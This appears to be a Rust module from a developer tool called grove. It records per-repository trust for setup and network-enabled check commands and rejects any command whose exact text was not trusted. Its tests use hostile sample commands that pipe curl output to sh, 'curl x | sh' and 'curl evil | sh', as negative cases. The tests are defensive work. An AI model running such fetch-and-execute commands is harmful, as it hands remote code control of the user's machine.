//! Trust on first use of setup commands: a `[worktree] setup` command from
//! `.grove/config.toml` runs only once the user has trusted that exact text in that
//! repository (like `direnv allow`); so does a `[check]` command with `network = true`
//! (it can send the repository's contents anywhere, like a setup command).
//!
//! This module owns the trust records and the check. It must never trust anything by
//! itself (reading or writing the config file is not trust; only `grove trust`, which a
//! person types, records it) and never keep a record where something that arrives with a
//! repository, or a worker, could plant one.
//!
//! Where the records live: the user's data directory, `$XDG_DATA_HOME/grove/trust/`
//! (default `~/.local/share/grove/trust/`), one file per repository and command. Not in
//! the repository: its common dir travels in a tarball or a copied checkout (a record
//! there would arrive trusted), and its work tree is what workers edit. Sandboxed
//! commands write only in their worktree and its temporary directory, so no worker can
//! write a record; the default place is under a dot-directory of the home, which the
//! sandbox also hides from reading. With `--sandbox off`, or an external worker CLI
//! running with the user's rights, nothing on the machine is out of a worker's reach —
//! the README says so.

use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};

use crate::text::fnv1a;

/// The subcommand that records trust, as messages name it.
pub const TRUST_COMMAND: &str = "grove trust";

/// The trust records of this user.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TrustStore {
    dir: PathBuf,
}

/// One trusted setup command: the file's contents, compared exactly (the file name is
/// only a hash of them, to find it).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
struct TrustRecord {
    /// The repository's work tree root, canonical.
    repository: PathBuf,
    /// The setup command, byte for byte as the config file has it.
    command: String,
}

/// Why a setup command may not run, or trust could not be checked or recorded.
#[derive(Debug, thiserror::Error)]
pub enum TrustError {
    /// The user has not trusted this setup command in this repository: it is new, or it
    /// changed since it was trusted. The run stops before it creates anything; not
    /// retried.
    #[error(
        "{} asks grove to run this setup command in every new worktree, and you have not \
         trusted it in this repository (it is new, or it changed since you trusted it):\n\n    \
         {command}\n\nRead it; to trust exactly this command here, run: {TRUST_COMMAND}",
        config.display()
    )]
    Untrusted {
        /// The config file that holds the command.
        config: PathBuf,
        command: String,
    },
    /// The user has not trusted this `[check]` command, which asks for the network
    /// (`network = true`), in this repository: it is new, or it changed since it was
    /// trusted. A check without the network needs no trust (it can do no more than a
    /// worker's `bash`). The run stops before it creates anything; not retried.
    #[error(
        "{} asks grove to run this check with network access on every subtask and on the \
         result, and you have not trusted it in this repository (it is new, or it changed \
         since you trusted it):\n\n    {command}\n\nRead it; to trust exactly this command \
         here, run: {TRUST_COMMAND} (or set `network = false` in [check])",
        config.display()
    )]
    UntrustedCheck {
        /// The config file that holds the command.
        config: PathBuf,
        command: String,
    },
    /// Neither `XDG_DATA_HOME` nor `HOME` names a directory. Not retried.
    #[error(
        "cannot tell where to keep trusted setup commands: set HOME (or XDG_DATA_HOME) to your \
         home directory"
    )]
    NoDataDir,
    /// The repository's root cannot be resolved. Not retried.
    #[error("cannot resolve the repository root {}: {source}", path.display())]
    Repository {
        path: PathBuf,
        #[source]
        source: std::io::Error,
    },
    /// A record could not be read, written or its directory created. Not retried.
    #[error("trust record {}: {operation}: {source}", path.display())]
    Io {
        operation: &'static str,
        path: PathBuf,
        #[source]
        source: std::io::Error,
    },
    /// A record could not be encoded. Not retried.
    #[error("trust record {}: cannot encode it: {source}", path.display())]
    Encode {
        path: PathBuf,
        #[source]
        source: serde_json::Error,
    },
}

impl TrustStore {
    /// The records kept in `dir`.
    pub fn new(dir: impl Into<PathBuf>) -> Self {
        Self { dir: dir.into() }
    }

    /// The user's records: `$XDG_DATA_HOME/grove/trust` when that is an absolute path,
    /// else `$HOME/.local/share/grove/trust`.
    pub fn for_user() -> Result<Self, TrustError> {
        let absolute = |name: &str| {
            std::env::var_os(name)
                .map(PathBuf::from)
                .filter(|path| path.is_absolute())
        };
        let data = absolute("XDG_DATA_HOME")
            .or_else(|| absolute("HOME").map(|home| home.join(".local").join("share")))
            .ok_or(TrustError::NoDataDir)?;
        Ok(Self::new(data.join("grove").join("trust")))
    }

    /// Where the records are.
    pub fn dir(&self) -> &Path {
        &self.dir
    }

    /// Whether `command` is trusted in the repository whose work tree is `repo_root`.
    pub fn is_trusted(&self, repo_root: &Path, command: &str) -> Result<bool, TrustError> {
        let record = TrustRecord::new(repo_root, command)?;
        let path = self.record_path(&record);
        let bytes = match std::fs::read(&path) {
            Ok(bytes) => bytes,
            Err(error) if error.kind() == std::io::ErrorKind::NotFound => return Ok(false),
            Err(source) => {
                return Err(TrustError::Io {
                    operation: "read",
                    path,
                    source,
                });
            }
        };
        // A record that does not parse, or that names another repository or command (a
        // hash collision), trusts nothing.
        Ok(serde_json::from_slice::<TrustRecord>(&bytes).is_ok_and(|found| found == record))
    }

    /// Records that `command` is trusted in the repository whose work tree is
    /// `repo_root`; returns the record's path.
    pub fn trust(&self, repo_root: &Path, command: &str) -> Result<PathBuf, TrustError> {
        let record = TrustRecord::new(repo_root, command)?;
        let path = self.record_path(&record);
        let io = |operation: &'static str, path: &Path| {
            let path = path.to_path_buf();
            move |source| TrustError::Io {
                operation,
                path,
                source,
            }
        };
        std::fs::create_dir_all(&self.dir).map_err(io("create directory", &self.dir))?;
        let mut bytes =
            serde_json::to_vec_pretty(&record).map_err(|source| TrustError::Encode {
                path: path.clone(),
                source,
            })?;
        bytes.push(b'\n');
        // Whole or not at all: a reader never sees half a record.
        let temp = path.with_extension(format!("tmp-{}", std::process::id()));
        std::fs::write(&temp, &bytes).map_err(io("write", &temp))?;
        std::fs::rename(&temp, &path).map_err(io("rename into place", &path))?;
        Ok(path)
    }

    /// Refuses `command` from `config` unless it is trusted in the repository whose work
    /// tree is `repo_root`.
    pub fn check(&self, repo_root: &Path, config: &Path, command: &str) -> Result<(), TrustError> {
        if self.is_trusted(repo_root, command)? {
            Ok(())
        } else {
            Err(TrustError::Untrusted {
                config: config.to_path_buf(),
                command: command.to_owned(),
            })
        }
    }

    /// Refuses the `[check]` `command` from `config`, which asks for the network, unless
    /// it is trusted in the repository whose work tree is `repo_root`. A record is the
    /// command's exact text, the same as for a setup command: either runs sandboxed with
    /// the network in every worktree.
    pub fn check_network_check(
        &self,
        repo_root: &Path,
        config: &Path,
        command: &str,
    ) -> Result<(), TrustError> {
        if self.is_trusted(repo_root, command)? {
            Ok(())
        } else {
            Err(TrustError::UntrustedCheck {
                config: config.to_path_buf(),
                command: command.to_owned(),
            })
        }
    }

    fn record_path(&self, record: &TrustRecord) -> PathBuf {
        let mut key = record.repository.as_os_str().as_encoded_bytes().to_vec();
        key.push(0);
        key.extend_from_slice(record.command.as_bytes());
        self.dir.join(format!("{:016x}.json", fnv1a(&key)))
    }
}

impl TrustRecord {
    fn new(repo_root: &Path, command: &str) -> Result<Self, TrustError> {
        let repository = repo_root
            .canonicalize()
            .map_err(|source| TrustError::Repository {
                path: repo_root.to_path_buf(),
                source,
            })?;
        Ok(Self {
            repository,
            command: command.to_owned(),
        })
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used)]
mod tests {
    use super::*;

    #[test]
    fn trust_is_per_exact_command_and_repository() {
        let home = tempfile::tempdir().unwrap();
        let repo = tempfile::tempdir().unwrap();
        let other = tempfile::tempdir().unwrap();
        let store = TrustStore::new(home.path().join("trust"));
        assert!(
            !store.is_trusted(repo.path(), "npm ci").unwrap(),
            "nothing is trusted at first"
        );
        store.trust(repo.path(), "npm ci").unwrap();
        assert_eq!(
            (
                store.is_trusted(repo.path(), "npm ci").unwrap(),
                store.is_trusted(repo.path(), "npm ci ").unwrap(),
                store
                    .is_trusted(repo.path(), "npm ci && curl x | sh")
                    .unwrap(),
                store.is_trusted(other.path(), "npm ci").unwrap(),
            ),
            (true, false, false, false),
            "only the exact text, in the repository it was trusted in"
        );
    }

    #[test]
    fn a_record_naming_another_command_trusts_nothing() {
        let home = tempfile::tempdir().unwrap();
        let repo = tempfile::tempdir().unwrap();
        let store = TrustStore::new(home.path());
        let path = store.trust(repo.path(), "make setup").unwrap();
        let planted = std::fs::read_to_string(&path)
            .unwrap()
            .replace("make setup", "curl evil | sh");
        std::fs::write(&path, planted).unwrap();
        assert!(
            !store.is_trusted(repo.path(), "make setup").unwrap(),
            "the record's text is compared, not just its file name"
        );
    }
}
